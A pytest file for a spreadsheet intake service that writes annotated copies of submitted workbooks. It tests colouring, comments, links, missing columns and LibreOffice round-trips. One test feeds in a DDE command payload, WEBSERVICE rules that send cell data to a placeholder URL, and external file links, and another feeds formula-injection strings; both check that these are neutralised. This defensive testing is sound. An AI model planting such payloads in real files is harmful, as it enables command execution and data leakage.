"""The annotated copy: the agent's own workbook, faults coloured and commented, that reads the same on its return."""

import io
import json
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from orchestration.contracts import CONTRACTS
from orchestration.intake import take_in
from orchestration.intake.findings.finding import Finding
from orchestration.intake.opening.annotated_copy import RECEIPT_SHEET, added_header
from orchestration.intake.opening.limits import Damaged
from orchestration.intake.receipts.annotation import FILE_NAME, annotate
from orchestration.intake.receipts.annotation.annotated_package import annotated_package
from orchestration.intake.receipts.annotation.marks import COLOURS
from orchestration.intake.receipts.files import receipt_files
from orchestration.intake.receipts.record import Receipt
from orchestration.passes.replay import read_waves
from tests.intake.drops import GOOD, HEADER, OTHER, drop, projects_csv, workbook
from tests.intake.read_file import read, sheets_of

NOW = datetime(2021, 12, 1, 9, tzinfo=UTC)
SOFFICE = shutil.which("soffice")
HEADERS = HEADER.split(";")
ROW = ["HORIZON", "Ministère de l’Intérieur", "01/01/2020", "4,5", "Déploiement", "douze"]


def _checked(tmp_path: Path, data: bytes, name: str = "export") -> Receipt:
    path = tmp_path / name
    path.write_bytes(data)
    return take_in.check_file(path, NOW, "2021-S2", "MI").receipt


def _annotated(tmp_path: Path, data: bytes) -> bytes:
    copy = receipt_files(_checked(tmp_path, data), data, sheets_of(data))[FILE_NAME]
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert not any(b"<f>" in part or b"<f " in part for part in parts.values())
    assert not any("externalLink" in name for name in parts)
    return copy


def _opened(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def _saved(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _rows(data: bytes) -> list[dict[str, object]]:
    """The rows as read, wherever the sheet and whatever the ends of lines."""
    return [
        {
            name: re.sub(r"\r\n?", "\n", value) if isinstance(value, str) else value
            for name, value in row.items()
            if name != "sheet"
        }
        for row in read(data).rows
    ]


@pytest.fixture
def theirs() -> Workbook:
    """An agent's workbook: a title over two merged cells, styles, widths, a second sheet."""
    book = Workbook()
    sheet = book.active
    sheet.title = "Projets de l'année"
    sheet.append(["Remontée du second semestre"])
    sheet.merge_cells("A1:B1")
    sheet.append(HEADERS)
    sheet.append(ROW)
    sheet.append(["BOUSSOLE", *ROW[1:5], 12.5])
    sheet["A2"].font = Font(bold=True, color="FF112233")
    sheet["F4"].number_format = '0.00" M€"'
    sheet.column_dimensions["A"].width = 37
    sheet.freeze_panes = "B3"
    other = book.create_sheet("Contacts")
    other["A1"] = "bureau@exemple.gouv.fr"
    other.sheet_view.tabSelected = True
    return book


def test_a_number_is_said_as_its_cell_shows_it_and_a_text_as_it_is(tmp_path):
    rows = [[*ROW[:3], 4.5, "Déploiement", 0.0035], ["p-1.10", *ROW[1:3], "quatre.5", "Déploiement", "1.234"]]
    book = _opened(_annotated(tmp_path, workbook(HEADERS, *rows)))
    sheet = book["Projets"]
    assert "Valeur saisie : « 0,0035 »" in sheet["F2"].comment.text
    assert "Valeur saisie : « quatre.5 »" in sheet["D3"].comment.text
    assert "Valeur saisie : « 1.234 »" in sheet["F3"].comment.text


def test_the_copy_of_a_workbook_keeps_its_styles_widths_and_sheets(tmp_path, theirs):
    copy = _opened(_annotated(tmp_path, _saved(theirs)))
    assert copy.sheetnames == [RECEIPT_SHEET, "Projets de l'année", "Contacts"]
    sheet = copy["Projets de l'année"]
    assert (sheet["A2"].font.b, sheet["A2"].font.color.rgb) == (True, "FF112233")
    assert sheet["F4"].number_format == '0.00" M€"'
    assert sheet.column_dimensions["A"].width == 37
    assert (sheet.freeze_panes, [str(one) for one in sheet.merged_cells.ranges]) == ("B3", ["A1:B1"])
    assert copy["Contacts"]["A1"].value == "bureau@exemple.gouv.fr"


def test_our_sheet_alone_is_selected_since_what_is_typed_goes_into_all_selected_sheets(tmp_path, theirs):
    copy = _opened(_annotated(tmp_path, _saved(theirs)))
    assert [bool(sheet.sheet_view.tabSelected) for sheet in copy] == [True, False, False]
    assert copy.active.title == RECEIPT_SHEET


def test_a_faulty_cell_is_coloured_commented_and_in_sight(tmp_path, theirs):
    theirs["Projets de l'année"].row_dimensions[3].hidden = True
    theirs["Projets de l'année"].sheet_state = "hidden"
    sheet = _opened(_annotated(tmp_path, _saved(theirs)))["Projets de l'année"]
    cell = sheet["F3"]
    assert cell.value == "douze"
    assert cell.fill.fgColor.rgb == COLOURS["error"]
    assert cell.comment.text.startswith("Jalons – Erreur\nUn nombre est attendu")
    assert "Valeur saisie : « douze »\nQue faire : Écrivez un nombre seul" in cell.comment.text
    assert (sheet.row_dimensions[3].hidden, sheet.sheet_state) == (False, "visible")
    assert sheet["F4"].fill.fill_type is None


def test_a_date_in_a_comment_is_written_as_the_agent_does(tmp_path, theirs):
    sheet = theirs["Projets de l'année"]
    sheet["G2"], sheet["G3"] = "Date de fin", datetime(2017, 3, 1)
    copy = _opened(_annotated(tmp_path, _saved(theirs)))
    said = copy["Projets de l'année"]["G3"].comment.text
    assert said.startswith("Jalons – Erreur\nAttendu\u00a0: la fin prévue doit suivre le début.")
    assert "Valeur saisie : « 01/03/2017 »" in said
    assert [row[4].value for row in copy[RECEIPT_SHEET].iter_rows() if row[1].value == "G3"] == ["01/03/2017"]


def test_our_sheet_says_the_verdict_and_leads_to_each_cell(tmp_path, theirs):
    sheet = _opened(_annotated(tmp_path, _saved(theirs)))[RECEIPT_SHEET]
    said = [[cell.value for cell in row if cell.value is not None] for row in sheet.iter_rows()]
    assert said[0] == [RECEIPT_SHEET]
    assert said[1][0].startswith("Votre fichier serait accepté")
    (row,) = [row for row in sheet.iter_rows() if row[1].value == "F3"]
    assert (row[0].value, row[2].value, row[3].value, row[4].value) == ("Erreur", "Coût estimé", "HORIZON", "douze")
    assert row[1].hyperlink.location == "'Projets de l''année'!F3"
    assert ["Édition", "2021-S2 (second semestre 2021)"] in said


def test_formulas_are_written_as_the_values_that_were_read(tmp_path):
    import xlsxwriter

    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as book:
        page = book.add_worksheet("Projets")
        page.write_row(0, 0, HEADERS)
        page.write_row(1, 0, ROW[:5])
        page.write_formula(1, 5, "=40+2.5", None, 42.5)
        page.write_formula(1, 6, "='[budget.xlsx]Feuil1'!$A$1", None, "lu ailleurs")
        page.write_array_formula("H2:H2", "{=SUM(A1:A2)}", None, 7)
    sheet = _opened(_annotated(tmp_path, buffer.getvalue()))["Projets"]
    assert [sheet[cell].value for cell in ("F2", "G2", "H2")] == [42.5, "lu ailleurs", 7]


def test_what_could_reach_outside_stays_behind_and_rules_that_only_look_are_kept(tmp_path, theirs):
    sheet = theirs["Projets de l'année"]
    harmless = [
        '"Cadrage,INDIRECT(A1)"',
        "'Contacts (2)'!$A$1:$A$9",
        "OR(AND(ISNUMBER(E3),E3=INT(E3)),COUNTIF(A1:A9,E3)>0)",
        'INDIRECT(SUBSTITUTE($D3," ","_"))',
        'INDIRECT("Phases[Libellé]")',
    ]
    for formula in (
        *harmless,
        "INDIRECT(\"'[budget.xlsx]Feuil1'!A1\")",
        "INDIRECT(\"'file:///tmp/budget.ods'#$Feuil1.A1\")",
        "[1]Feuil1!$A$1:$A$2",
        "1+webservice (A1)",
        "cmd|'/c calc'!A1",
        "a.b(1)",
    ):
        sheet.add_data_validation(DataValidation(type="custom", formula1=formula, sqref="E3:E9"))
    sheet.conditional_formatting.add("F3:F9", FormulaRule(['WEBSERVICE("http://exemple.fr/?"&F3)<>""']))
    sheet.conditional_formatting.add("F3:F9", CellIsRule("greaterThan", ["100"], fill=PatternFill("solid")))
    theirs.defined_names["Phases"] = DefinedName("Phases", attr_text="Contacts!$A$1:$A$9")
    theirs.defined_names["Ailleurs"] = DefinedName("Ailleurs", attr_text="[1]Feuil1!$A$1")
    sheet["A3"].hyperlink = "file://partage/macro.xlsm"
    sheet["A4"].hyperlink = "https://www.exemple.gouv.fr/horizon"

    copy = _opened(_annotated(tmp_path, _saved(theirs)))
    kept = copy["Projets de l'année"]
    assert [one.formula1 for one in kept.data_validations.dataValidation] == harmless
    assert [rule.formula for ranges in kept.conditional_formatting for rule in ranges.rules] == [["100"]]
    assert list(copy.defined_names) == ["Phases"]
    assert kept["A3"].hyperlink is None
    assert kept["A4"].hyperlink.target == "https://www.exemple.gouv.fr/horizon"


@pytest.mark.parametrize("text", ["=1+1", "+33 1 23", "-12", "@cmd", '=HYPERLINK("http://exemple.fr")'])
@pytest.mark.parametrize("is_workbook", [True, False])
def test_a_text_that_looks_like_a_formula_stays_a_text(tmp_path, text, is_workbook):
    cells = [text, *ROW[1:]]
    data = (
        workbook(HEADERS)
        if is_workbook
        else projects_csv(";".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in cells))
    )
    if is_workbook:
        book = _opened(data)
        book["Projets"].append(cells)
        book["Projets"]["A2"].data_type = "s"
        data = _saved(book)
    copy = _opened(_annotated(tmp_path, data))
    cell = copy.worksheets[1]["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    listed = [row[3] for row in copy[RECEIPT_SHEET].iter_rows() if row[1].value == "F2"]
    assert [(cell.value, cell.data_type) for cell in listed] == [(text, "s")]


def test_a_csv_becomes_a_workbook_of_the_cells_as_typed(tmp_path):
    data = projects_csv(GOOD, "", OTHER.replace("12", "douze"))
    copy = _opened(_annotated(tmp_path, data))
    sheet = copy["Tableau"]
    assert [cell.value for cell in sheet[2]] == GOOD.split(";")
    assert [cell.value for cell in sheet[3]] == [None] * 6
    assert sheet["F4"].fill.fgColor.rgb == COLOURS["error"]
    (link,) = [row[1].hyperlink.location for row in copy[RECEIPT_SHEET].iter_rows() if row[1].value == "F4"]
    assert link == "'Tableau'!F4"


def test_a_json_file_becomes_a_workbook_too(tmp_path):
    record = dict(zip(HEADERS, [*ROW[:5], 0.30000000000000004], strict=True)) | {
        "Note": 2**60,
        "Vide": None,
        "Code": "#N/A",
    }
    data = json.dumps([record]).encode()
    sheet = _opened(_annotated(tmp_path, data))["Tableau"]
    assert [cell.value for cell in sheet[2]] == [*ROW[:5], 0.30000000000000004, str(2**60), None, "#N/A"]
    assert sheet["I2"].data_type == "s"


def test_what_an_xlsx_cannot_hold_is_replaced_and_the_rest_is_kept(tmp_path):
    data = projects_csv(GOOD.replace("HORIZON", "HORI\x01ZON"))
    assert _opened(_annotated(tmp_path, data))["Tableau"]["A2"].value == "HORI\ufffdZON"


@pytest.mark.parametrize("data", [b"", b"%PDF-1.4", b"PK\x03\x04 not a workbook"])
def test_a_file_that_is_no_table_has_no_copy_and_still_its_receipt(tmp_path, data):
    files = receipt_files(_checked(tmp_path, data), data, sheets_of(data))
    assert sorted(files) == ["accuse.html", "accuse.json"]


def test_the_same_receipt_gives_the_same_bytes(tmp_path, theirs, monkeypatch):
    data = _saved(theirs)
    receipt = _checked(tmp_path, data)
    first = annotate(data, sheets_of(data), receipt)
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    assert annotate(data, sheets_of(data), receipt) == first
    with zipfile.ZipFile(io.BytesIO(first)) as package:
        assert {entry.date_time for entry in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_workbook_that_cannot_be_edited_safely_is_written_anew_from_its_cells(tmp_path):
    data = _with_part(workbook(HEADERS, ROW), "xl/styles.xml", lambda part: part.replace(b"cellXfs", b"cellXf_"))
    copy = _opened(_annotated(tmp_path, data))
    assert copy["Projets"]["F2"].fill.fgColor.rgb == COLOURS["error"]
    assert "sans leur mise en forme" in str([cell.value for cell in copy[RECEIPT_SHEET]["A"]])


def test_a_copy_that_lacks_a_sheet_that_was_read_is_refused(tmp_path, theirs):
    data = _saved(theirs)
    read_ones = {"Contacts": "Contacts", "Feuille perdue": "Feuille perdue"}
    with pytest.raises(Damaged, match="not all that were read"):
        annotated_package(data, read_ones, {}, _checked(tmp_path, data), is_plain=False)


def test_a_range_merged_over_a_whole_sheet_costs_nothing(tmp_path):
    merged = b'<mergeCells count="1"><mergeCell ref="A4:XFD1048576"/></mergeCells><pageMargins'
    data = _with_part(
        workbook(HEADERS, ROW), "xl/worksheets/sheet1.xml", lambda part: part.replace(b"<pageMargins", merged)
    )
    assert b"A4:XFD1048576" in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert _opened(_annotated(tmp_path, data))["Projets"]["F2"].value == "douze"


def _with_part(data: bytes, name: str, change) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as package, zipfile.ZipFile(buffer, "w") as changed:
        for entry in package.namelist():
            part = package.read(entry)
            changed.writestr(entry, change(part) if entry == name else part)
    return buffer.getvalue()


def test_a_finding_in_a_merged_cell_is_marked_where_the_cell_shows(tmp_path, theirs):
    data = _saved(theirs)
    finding = Finding("made_up", "warning", "Attendu.", "À faire.", sheet="Projets de l'année", cell="B1", row=1)
    receipt = _checked(tmp_path, data)
    copy = _opened(annotate(data, sheets_of(data), Receipt(**{**vars(receipt), "findings": (finding,)})))
    assert copy["Projets de l'année"]["A1"].comment.text.startswith("Jalons – À vérifier")


def _headers(tmp_path: Path, data: bytes) -> tuple[dict[str, str], dict[str, str]]:
    """The header cells that are coloured, each with its comment, and what our sheet links to: place -> location."""
    copy = _opened(_annotated(tmp_path, data))
    sheet = copy.worksheets[1]
    coloured = {cell.coordinate: cell.comment.text for cell in sheet[1] if cell.fill.fgColor.rgb in COLOURS.values()}
    links = {row[1].value: row[1].hyperlink.location for row in copy[RECEIPT_SHEET].iter_rows() if row[1].hyperlink}
    return coloured, links


@pytest.mark.parametrize("is_workbook", [True, False])
def test_a_finding_about_columns_is_marked_in_their_headers(tmp_path, is_workbook):
    header = [*HEADERS, "Montant estimatif", "", "Colonne A"]
    rows = [[f"P{n}", *ROW[1:5], str(12_500 + n), "3", "perdu", "x"] for n in range(6)]
    lines = [";".join(row) for row in rows]
    data = workbook(header, *rows) if is_workbook else projects_csv(*lines, header=";".join(header))
    coloured, links = _headers(tmp_path, data)
    assert {cell: text.split("\n")[1].split(" ")[0] for cell, text in coloured.items()} == {
        "F1": "La",
        "G1": "«\u00a0Montant",
        "H1": "La",
        "I1": "«\u00a0Montant",
    }
    assert "semble saisie en milliers" in coloured["F1"]
    assert "n’a pas d’en-tête" in coloured["H1"]
    assert all(f"!{cell}" in links[cell] for cell in ("F1", "G1", "H1"))


def test_two_columns_that_claim_one_field_are_both_marked_and_legible(tmp_path):
    book = _opened(workbook([*HEADERS, "Coût complet estimé"], [*ROW, "12"]))
    for cell in book["Projets"][1]:
        cell.font, cell.fill = Font(color="FFFFFFFF"), PatternFill("solid", fgColor="FF000091")
    sheet = _opened(_annotated(tmp_path, _saved(book)))["Projets"]
    assert [cell.coordinate for cell in sheet[1] if cell.fill.fgColor.rgb == COLOURS["error"]] == ["F1", "G1"]
    assert (sheet["F1"].font.color.rgb, sheet["E1"].font.color.rgb) == ("FF161616", "FFFFFFFF")


def test_a_column_that_an_agent_names_in_a_header_marks_no_other_column(tmp_path):
    coloured, _ = _headers(tmp_path, workbook([*HEADERS, "Repris de la colonne A"], [*ROW, "oui"]))
    assert list(coloured) == ["G1"]


LACKING = [*HEADERS[:4], HEADERS[5]]
LACKING_ROW = [*ROW[:4], "12"]


@pytest.mark.parametrize("is_workbook", [True, False])
def test_a_missing_column_is_named_in_the_first_free_header_cell(tmp_path, is_workbook):
    rows = [LACKING, LACKING_ROW, [*LACKING_ROW, "", "une note"]]
    data = workbook(*rows) if is_workbook else "\r\n".join(map(";".join, rows)).encode()
    copy = _opened(_annotated(tmp_path, data))
    cell = copy.worksheets[1]["H1"]
    assert cell.value == "Colonne manquante, à ajouter\u00a0: «\u00a0Phase du projet en cours\u00a0»"
    assert (cell.fill.fgColor.rgb, cell.alignment.wrap_text) == (COLOURS["error"], True)
    assert copy.worksheets[1].column_dimensions["H"].width == 30
    assert "remplacez le texte de cette cellule par l’en-tête" in cell.comment.text
    (link,) = [row[1].hyperlink.location for row in copy[RECEIPT_SHEET].iter_rows() if row[1].hyperlink]
    assert link.endswith("!H1")


def test_a_copy_that_lacks_a_column_is_refused_again_until_it_is_there(tmp_path):
    data = workbook(LACKING, LACKING_ROW)
    first = _checked(tmp_path, data)
    assert [one.rule for one in first.findings] == ["column_missing"]
    copy = _annotated(tmp_path, data)
    untouched = _checked(tmp_path, copy)
    assert (untouched.status, untouched.findings) == ("rejected", first.findings)
    again = _opened(_annotated(tmp_path, copy)).worksheets[1]
    assert [cell.value for cell in again[1]][5:] == [
        "Colonne manquante, à ajouter\u00a0: «\u00a0Phase du projet en cours\u00a0»"
    ]

    book = _opened(copy)
    book.worksheets[1]["F2"] = "Déploiement"
    assert _checked(tmp_path, _saved(book)).status == "rejected"
    book.worksheets[1]["F1"] = "Phase du projet en cours"
    mended = _checked(tmp_path, _saved(book))
    assert (mended.status, mended.findings, mended.rows_accepted) == ("accepted", (), 1)


def test_what_was_added_for_a_missing_column_goes_once_the_column_stands_elsewhere(tmp_path):
    book = _opened(_annotated(tmp_path, workbook(LACKING, LACKING_ROW)))
    sheet = book.worksheets[1]
    sheet["G1"], sheet["G2"] = "Phase du projet en cours", "Déploiement"
    mended = _saved(book)
    assert _checked(tmp_path, mended).findings == ()
    again = _opened(_annotated(tmp_path, mended)).worksheets[1]
    assert [cell.value for cell in again[1]] == [*LACKING, None, "Phase du projet en cours"]
    assert again["F1"].comment is None


def test_no_contract_knows_the_header_that_is_added_for_a_missing_column():
    for contract in CONTRACTS.values():
        for column in contract.columns:
            for title in (column.title, column.header, column.field, *column.aliases):
                assert contract.match([added_header(title)]).columns == {}


def test_a_finding_of_a_whole_row_is_marked_in_its_first_cell(tmp_path, theirs):
    data = _saved(theirs)
    finding = Finding("made_up", "warning", "Attendu.", "À faire.", sheet="Projets de l'année", row=4)
    receipt = _checked(tmp_path, data)
    copy = _opened(annotate(data, sheets_of(data), Receipt(**{**vars(receipt), "findings": (finding,)})))
    assert copy["Projets de l'année"]["A4"].fill.fgColor.rgb == COLOURS["warning"]
    assert [row[1].hyperlink.location for row in copy[RECEIPT_SHEET].iter_rows() if row[1].value == "ligne 4"] == [
        "'Projets de l''année'!A4"
    ]


def test_many_findings_are_all_coloured_and_as_many_commented_as_opens_with_ease(tmp_path):
    data = projects_csv(*[GOOD.replace("42,5", "douze")] * 2_100)
    sheet = _opened(_annotated(tmp_path, data))["Tableau"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, min_col=6, max_col=6)]
    assert {cell.fill.fgColor.rgb for cell in cells} == {COLOURS["error"]}
    assert sum(cell.comment is not None for cell in cells) <= 2_000


def test_the_copy_mended_and_filed_again_is_accepted_without_our_marks(settings, theirs):
    theirs["Projets de l'année"]["F3"].comment = Comment("À confirmer par le bureau.", "Agent")
    drop(settings.home, "2021-S2/MI/remontee.xlsx", _saved(theirs))
    (first,) = take_in.take_in(settings, NOW).outcomes
    assert first.receipt.errors == 1

    path = Path(first.receipt_folder) / FILE_NAME
    book = _opened(path.read_bytes())
    book["Projets de l'année"]["F3"] = 12
    drop(settings.home, "2021-S2/MI/annote.xlsx", _saved(book))
    (second,) = take_in.take_in(settings, NOW).outcomes
    assert (second.receipt.kind, second.receipt.rows_read, second.receipt.errors) == ("projects", 2, 0)

    again = _opened((Path(second.receipt_folder) / FILE_NAME).read_bytes())
    assert again.sheetnames == [RECEIPT_SHEET, "Projets de l'année", "Contacts"]
    cell = again["Projets de l'année"]["F3"]
    assert (cell.value, cell.fill.fill_type, cell.comment.text) == (12, None, "À confirmer par le bureau.")


def test_the_copy_sent_back_unmended_says_the_same_faults_once(tmp_path, theirs):
    data = _saved(theirs)
    copy = _annotated(tmp_path, data)
    first, second = _checked(tmp_path, data), _checked(tmp_path, copy)
    assert second.findings == first.findings
    comment = _opened(_annotated(tmp_path, copy))["Projets de l'année"]["F3"].comment.text
    assert comment.count("Que faire") == 1


def test_real_files_of_every_format_read_the_same_from_their_annotated_copies(tmp_path, real_data):
    receipt = _checked(tmp_path, projects_csv(GOOD))
    waves = read_waves(real_data / "drops.csv")
    files = [file for wave in waves for _, perimeter, file in wave.drops if perimeter in ("MI", "MEF", "MSO")]
    assert {file.suffix for file in files} == {".csv", ".ods", ".xlsx"}
    for path in files:
        data = path.read_bytes()
        copy = annotate(data, sheets_of(data), receipt)
        assert (read(copy).kind, _rows(copy)) == (read(data).kind, _rows(data)), path


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not on this machine: soffice is missing")
class TestInLibreOffice:
    """What LibreOffice makes of the copies."""

    @pytest.fixture(scope="class")
    @staticmethod
    def through(tmp_path_factory: pytest.TempPathFactory):
        """Open copies in one start of LibreOffice and save them as XLSX: name -> bytes."""

        def convert(files: dict[str, bytes]) -> dict[str, bytes]:
            folder = tmp_path_factory.mktemp("libreoffice")
            for name, data in files.items():
                (folder / name).write_bytes(data)
            command = [
                str(SOFFICE),
                f"-env:UserInstallation={(folder / 'profile').as_uri()}",
                "--headless",
                "--convert-to",
                "xlsx:Calc MS Excel 2007 XML",
                "--outdir",
                str(folder / "out"),
                *(str(folder / name) for name in files),
            ]
            subprocess.run(command, check=True, capture_output=True, timeout=120)
            return {name: (folder / "out" / name).read_bytes() for name in files}

        return convert

    def test_copies_open_and_are_saved_with_the_same_cells_marks_and_links(self, tmp_path, theirs, through):
        """It opens them without a repair, and what it saves reads the same."""
        originals = {"xlsx.xlsx": _saved(theirs), "csv.xlsx": projects_csv(GOOD, OTHER.replace("12", "douze"))}
        copies = {name: _annotated(tmp_path, data) for name, data in originals.items()}
        saved = through(copies)
        for name, data in originals.items():
            assert _rows(saved[name]) == _rows(data), name
            book = _opened(saved[name])
            assert book.sheetnames == _opened(copies[name]).sheetnames
            faulty = book.worksheets[1]["F3"]
            assert faulty.fill.fgColor.rgb == COLOURS["error"]
            assert faulty.comment.text.startswith("Jalons – Erreur")
            (link,) = [row[1].hyperlink.location for row in book[RECEIPT_SHEET].iter_rows() if row[1].value == "F3"]
            assert link.endswith("!F3")

    def test_a_copy_that_lacks_a_column_is_still_refused_once_libreoffice_has_saved_it(self, tmp_path, through):
        """The header that we add is shown, coloured and commented, and never taken for the column."""
        data = workbook(LACKING, LACKING_ROW)
        saved = through({"lacking.xlsx": _annotated(tmp_path, data)})["lacking.xlsx"]
        cell = _opened(saved)["Projets"]["F1"]
        assert cell.value == added_header("Phase du projet en cours")
        assert cell.fill.fgColor.rgb == COLOURS["error"]
        assert cell.comment.text.startswith("Jalons – Erreur")
        receipt = _checked(tmp_path, saved)
        assert (receipt.status, receipt.findings) == ("rejected", _checked(tmp_path, data).findings)
